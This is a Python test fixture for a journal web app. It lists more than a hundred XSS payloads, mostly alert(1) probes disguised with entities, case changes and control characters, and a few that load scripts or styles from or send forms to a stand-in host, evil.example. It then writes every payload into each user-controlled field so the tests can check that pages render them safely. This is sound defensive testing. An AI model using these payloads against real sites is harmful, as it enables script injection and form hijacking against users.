"""Hostile Markdown and HTML, and the one function that writes it into every place a
person's text is shown.

Shared by tests/test_hostile_content.py (every page, parsed) and
tests/browser/test_hostile_pages.py (the same pages in Chromium). Each payload has a short
id, so that a failing test names it.
"""

from typing import NamedTuple

from journal import services
from journal.models import Entry
from tests.conftest import make_user


class Payload(NamedTuple):
    id: str
    text: str


JS = "alert(1)"
SVG_ONLOAD_B64 = "PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+"  # <svg onload=alert(1)>
SCRIPT_B64 = "PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="  # <script>alert(1)</script>

PAYLOADS = [
    # Script tags.
    Payload("script", f"<script>{JS}</script>"),
    Payload("script-upper-src", "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>"),
    Payload("script-split", f"<scr<script>ipt>{JS}</scr</script>ipt>"),
    Payload("script-doubled-bracket", f"<<script>script>{JS}<</script>/script>"),
    Payload("script-unclosed", f"<script>{JS}"),
    Payload("script-inline-with-markdown", f"**bold** <script>{JS}</script> _then_"),
    Payload("script-in-code-span", f"`<script>{JS}</script>`"),
    Payload("script-in-fence", f"```html\n<script>{JS}</script>\n```"),
    Payload("script-indented-code", f"    <script>{JS}</script>"),
    # Event handlers.
    Payload("img-onerror", f"<img src=x onerror={JS}>"),
    Payload("img-slashes-onerror", f"<img/src=x/onerror={JS}>"),
    Payload("body-onload", f"<body onload={JS}>"),
    Payload("div-onmouseover", f'<div onmouseover="{JS}">hover</div>'),
    Payload("a-onclick", f'<a href="https://example.org" onclick="{JS}">x</a>'),
    Payload("details-ontoggle", f"<details open ontoggle={JS}>x</details>"),
    Payload("input-autofocus-onfocus", f"<input autofocus onfocus={JS}>"),
    Payload("video-source-onerror", f"<video><source onerror={JS}></video>"),
    Payload("marquee-onstart", f"<marquee onstart={JS}>x</marquee>"),
    Payload("md-image-quote-breakout", f'![x](https://example.org/a.png"onerror="{JS})'),
    Payload("md-title-quote-breakout", f'[x](https://example.org "a\\" onmouseover=\\"{JS}")'),
    Payload("md-alt-with-html", f"![<img src=x onerror={JS}>](https://example.org/a.png)"),
    Payload("md-text-with-html", f"[<img src=x onerror={JS}>](https://example.org)"),
    # javascript:, vbscript: and data: in every Markdown link form.
    Payload("md-inline-js", f"[click](javascript:{JS})"),
    Payload("md-inline-js-angle", f"[click](<javascript:{JS}>)"),
    Payload("md-inline-js-title", f'[click](javascript:{JS} "title")'),
    Payload("md-inline-js-case", f"[x](JaVaScRiPt:{JS})"),
    Payload("md-inline-js-hex-entity", f"[x](jav&#x61;script:{JS})"),
    Payload(
        "md-inline-js-decimal-entities",
        "[x](&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1))",
    ),
    Payload(
        "md-inline-js-entities-no-semicolon",
        "[x](&#106&#97&#118&#97&#115&#99&#114&#105&#112&#116&#58alert(1))",
    ),
    Payload("md-inline-js-tab", f"[x](java\tscript:{JS})"),
    Payload("md-inline-js-newline-entity", f"[x](java&#10;script:{JS})"),
    Payload("md-inline-js-tab-entity", f"[x](java&Tab;script:{JS})"),
    Payload("md-inline-js-colon-entity", f"[x](javascript&colon;{JS})"),
    Payload("md-inline-js-leading-space-entity", f"[x](&#32;javascript:{JS})"),
    Payload("md-inline-js-leading-control", f"[x](\x01javascript:{JS})"),
    Payload("md-inline-js-inner-control", f"[x](java\x0bscript:{JS})"),
    Payload("md-inline-js-zero-width", f"[x](java\u200bscript:{JS})"),
    Payload("md-inline-vbscript", "[x](vbscript:msgbox(1))"),
    Payload("md-inline-data-html", f"[x](data:text/html;base64,{SCRIPT_B64})"),
    Payload("md-inline-data-case", f"[x](DaTa:text/html,<script>{JS}</script>)"),
    Payload("md-reference-js", f"[click][x]\n\n[x]: javascript:{JS}"),
    Payload("md-reference-js-angle", f"[click][x]\n\n[x]: <javascript:{JS}>"),
    Payload("md-reference-js-entity", f"[click][x]\n\n[x]: jav&#x61;script:{JS}"),
    Payload("md-reference-collapsed", f"[x][]\n\n[x]: javascript:{JS}"),
    Payload("md-reference-shortcut-case", f"[x]\n\n[x]: JaVaScRiPt:{JS}"),
    Payload("md-reference-leading-spaces", f"[x][r]\n\n   [r]:     \tjavascript:{JS}"),
    Payload("md-autolink-js", f"<javascript:{JS}>"),
    Payload("md-autolink-js-case", f"<JaVaScRiPt:{JS}>"),
    Payload("md-autolink-vbscript", "<vbscript:msgbox(1)>"),
    Payload("md-autolink-data", f"<data:text/html;base64,{SCRIPT_B64}>"),
    Payload("md-autolink-mailto-js", f"<mailto:javascript:{JS}>"),
    Payload("md-autolink-email-js", "<javascript:alert(1)@example.org>"),
    Payload("md-image-in-js-link", f"[![x](https://example.org/a.png)](javascript:{JS})"),
    # ... and every Markdown image form.
    Payload("md-image-js", f"![x](javascript:{JS})"),
    Payload("md-image-js-entity", f"![x](jav&#x61;script:{JS})"),
    Payload("md-image-data-svg", f"![x](data:image/svg+xml;base64,{SVG_ONLOAD_B64})"),
    Payload("md-image-data-png", "![x](data:image/png;base64,iVBORw0KGgo=)"),
    Payload("md-image-reference-js", f"![x][i]\n\n[i]: javascript:{JS}"),
    Payload("md-image-reference-data", f"![x][i]\n\n[i]: data:image/svg+xml,<svg onload={JS}>"),
    # Raw HTML links and images, with entity, case, whitespace and control-character tricks.
    Payload("html-a-js", f'<a href="javascript:{JS}">x</a>'),
    Payload("html-a-js-entity", f'<a href="jav&#x61;script:{JS}">x</a>'),
    Payload(
        "html-a-js-padded-entities",
        '<a href="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105'
        '&#0000112&#0000116&#0000058alert(1)">x</a>',
    ),
    Payload("html-a-js-leading-spaces", f'<a href="   javascript:{JS}">x</a>'),
    Payload("html-a-js-tab-newline", f'<a href="jav\tas\ncript:{JS}">x</a>'),
    Payload("html-a-js-control-chars", f'<a href="\x01\x02javascript:{JS}">x</a>'),
    Payload("html-a-js-nul-entity", f'<a href="java&#0;script:{JS}">x</a>'),
    Payload("html-a-js-unquoted-case", f"<A HREF=JaVaScRiPt:{JS}>x</A>"),
    Payload("html-a-vbscript", '<a href="vbscript:msgbox(1)">x</a>'),
    Payload("html-a-data", f'<a href="data:text/html;base64,{SCRIPT_B64}">x</a>'),
    Payload("html-a-ping", '<a href="https://example.org" ping="https://evil.example/">x</a>'),
    Payload("html-img-js", f'<img src="javascript:{JS}">'),
    Payload("html-img-data-svg", f"<img src=\"data:image/svg+xml;utf8,<svg onload='{JS}'/>\">"),
    Payload("html-img-srcset-js", f'<img srcset="javascript:{JS} 1x">'),
    Payload(
        "html-table-background", f'<table background="javascript:{JS}"><tr><td>x</td></tr></table>'
    ),
    # SVG and MathML.
    Payload("svg-onload", f"<svg onload={JS}>"),
    Payload("svg-script", f"<svg><script>{JS}</script></svg>"),
    Payload(
        "svg-xlink-href", f'<svg><a xlink:href="javascript:{JS}"><text y="20">x</text></a></svg>'
    ),
    Payload("svg-animate-onbegin", f"<svg><animate onbegin={JS} attributeName=x dur=1s>"),
    Payload(
        "svg-set-href",
        f'<svg><a><set attributeName="href" to="javascript:{JS}"/><text y="20">x</text></a></svg>',
    ),
    Payload(
        "svg-foreignobject-iframe",
        f'<svg><foreignObject><iframe src="javascript:{JS}"></iframe></foreignObject></svg>',
    ),
    Payload("svg-cdata", f'<svg><![CDATA[><image xlink:href="]]><img src=x onerror={JS}//"></svg>'),
    Payload(
        "math-mglyph-style-mxss", f"<math><mtext><table><mglyph><style><img src=x onerror={JS}>"
    ),
    # Frames, plugins.
    Payload("iframe-js", f'<iframe src="javascript:{JS}"></iframe>'),
    Payload("iframe-srcdoc", f'<iframe srcdoc="<script>{JS}</script>"></iframe>'),
    Payload("object-data", f'<object data="javascript:{JS}"></object>'),
    Payload("embed-data-svg", f'<embed src="data:image/svg+xml;base64,{SVG_ONLOAD_B64}">'),
    Payload("frameset", f'<frameset><frame src="javascript:{JS}"></frameset>'),
    # CSS.
    Payload("style-attribute", f'<p style="background:url(javascript:{JS})">x</p>'),
    Payload("style-expression", f'<div style="width: expression({JS})">x</div>'),
    Payload("style-tag", f'<style>body{{background:url("javascript:{JS}")}}</style>'),
    Payload("style-import", '<style>@import "https://evil.example/x.css";</style>'),
    Payload("link-stylesheet", '<link rel="stylesheet" href="https://evil.example/x.css">'),
    # The document's head and forms.
    Payload("base-href", '<base href="https://evil.example/">'),
    Payload("meta-refresh", f'<meta http-equiv="refresh" content="0;url=javascript:{JS}">'),
    Payload(
        "form-formaction",
        f'<form action="https://evil.example/"><button formaction="javascript:{JS}">go</button></form>',
    ),
    Payload(
        "button-hijacks-site-form",
        '<button form="logout" formaction="https://evil.example/">x</button>',
    ),
    Payload("input-image-js", f'<input type="image" src="javascript:{JS}">'),
    Payload("isindex", f'<isindex action="javascript:{JS}" type="image">'),
    # Broken nesting, unclosed tags, comments and CDATA.
    Payload("unclosed-attribute", f'<img src="x onerror={JS}//'),
    Payload("broken-nesting", f'<b><i><a href="javascript:{JS}">x</b></i></a>'),
    Payload("comment-breakout", f"<!--><script>{JS}</script>-->"),
    Payload("comment-bang-close", f"<!-- --!><img src=x onerror={JS}> -->"),
    Payload("conditional-comment", f"<!--[if IE]><script>{JS}</script><![endif]-->"),
    Payload("cdata", f"<![CDATA[<script>{JS}</script>]]>"),
    Payload("noscript-mxss", f'<noscript><p title="</noscript><img src=x onerror={JS}>">'),
    Payload("xmp-mxss", f'<xmp><p title="</xmp><img src=x onerror={JS}>">'),
    Payload(
        "form-math-mxss",
        f"<form><math><mtext></form><form><mglyph><style></math><img src onerror={JS}>",
    ),
    Payload("template-script", f"<template><script>{JS}</script></template>"),
    # Breaking out of the place the text is shown: an element, an attribute, the editor.
    Payload("title-breakout", f"</title><script>{JS}</script>"),
    Payload("textarea-breakout", f"</textarea><script>{JS}</script>"),
    Payload("attribute-breakout", f'"><script>{JS}</script>'),
    Payload("single-quote-breakout", f"'><img src=x onerror={JS}>"),
    # Markdown inside HTML and HTML inside Markdown.
    Payload("markdown-in-div", f'<div markdown="1">[x](javascript:{JS})</div>'),
    Payload("markdown-in-span", f"<span>[x](javascript:{JS})</span>"),
    Payload("markdown-in-href", f'<a href="[x](javascript:{JS})">x</a>'),
    # Entities the excerpt and search snippet decode.
    Payload("escaped-script", f"&lt;script&gt;{JS}&lt;/script&gt;"),
    Payload("double-escaped-script", f"&amp;lt;script&amp;gt;{JS}&amp;lt;/script&amp;gt;"),
    Payload("escaped-img-in-code", f"`&lt;img src=x onerror={JS}&gt;`"),
    # The control characters the search snippet builder uses as highlight markers.
    Payload("snippet-markers", f"\x02<img src=x onerror={JS}>\x03 and \x02b\x03"),
]


# A word every hostile entry contains, and one per entry, for the search pages.
SHARED_WORD = "zebracorn"


def username(index):
    return f"hostile{index}"


def marker(index):
    """A word only entry ``index`` contains, so that a search finds exactly that entry."""
    return f"zebra{index}corn"


def topic_name(index, payload):
    # Topics are typed as a comma-separated list, so no name holds a comma; the index
    # keeps every slug distinct even when the payload slugifies to nothing.
    return f"t{index} {payload.text}".replace(",", " ")[:50]


def build_hostile_world(payloads=PAYLOADS):
    """Write every payload into every field a person controls, through the services the
    views use, and return who and what was written.

    Payload ``i`` is the display name, bio and focus of ``hostile<i>``, every text field
    of their entry and a topic's name; ``hostile<i+1>`` comments it, cheers it, follows
    its author and reports entry, comment and author with it as the note, so that the
    notifications of ``hostile<i>`` and the moderation queue show it. Every author also
    comments it on one entry of ``reader``, whose notifications then hold them all.
    """
    moderator = make_user("moderator", display_name="Mo Derator", is_staff=True, time_zone="UTC")
    reader = make_user("reader", display_name="Rhea Reader", time_zone="UTC")
    board = services.entry_save(
        entry=Entry(
            author=reader,
            day=reader.local_today(),
            minutes=60,
            title="Comment board",
            body="Everyone comments here.",
        ),
        topic_names=[],
    )
    authors = [
        make_user(
            username(index),
            display_name=payload.text[:80],
            bio=payload.text[:1000],
            learning_focus=payload.text[:140],
            time_zone="UTC",
        )
        for index, payload in enumerate(payloads)
    ]
    entries, comments, topics = [], [], []
    for index, (author, payload) in enumerate(zip(authors, payloads, strict=True)):
        word = f"{SHARED_WORD} {marker(index)}"
        entry = services.entry_save(
            entry=Entry(
                author=author,
                day=author.local_today(),
                minutes=60,
                title=payload.text[:200],
                # Separate paragraphs, so that block-level HTML still starts a line.
                body=f"{word}\n\n{payload.text}\n\n{word}",
                key_lesson=payload.text[:500],
                reflection=payload.text,
            ),
            topic_names=[topic_name(index, payload)],
        )
        entries.append(entry)
        topics.append(entry.topics.get())
    for index, payload in enumerate(payloads):
        author, entry = authors[index], entries[index]
        neighbour = authors[(index + 1) % len(authors)]
        comment = services.comment_create(author=neighbour, entry=entry, body=payload.text)
        comments.append(comment)
        services.comment_create(author=author, entry=board, body=payload.text)
        services.cheer_toggle(user=neighbour, entry=entry)
        services.follow_toggle(follower=neighbour, followed=author)
        note = payload.text[:500]
        for target in (entry, comment, author):
            services.report_create(reporter=neighbour, target=target, reason="spam", note=note)
        # A restore of a visible entry changes nothing but writes the entry's title into
        # the moderation log.
        services.entry_set_hidden(moderator=moderator, entry=entry, hidden=False)
    assert len({topic.pk for topic in topics}) == len(payloads), "topic slugs must differ"
    return {
        "moderator": moderator,
        "reader": reader,
        "board": board,
        "authors": authors,
        "entries": entries,
        "comments": comments,
        "topics": topics,
    }
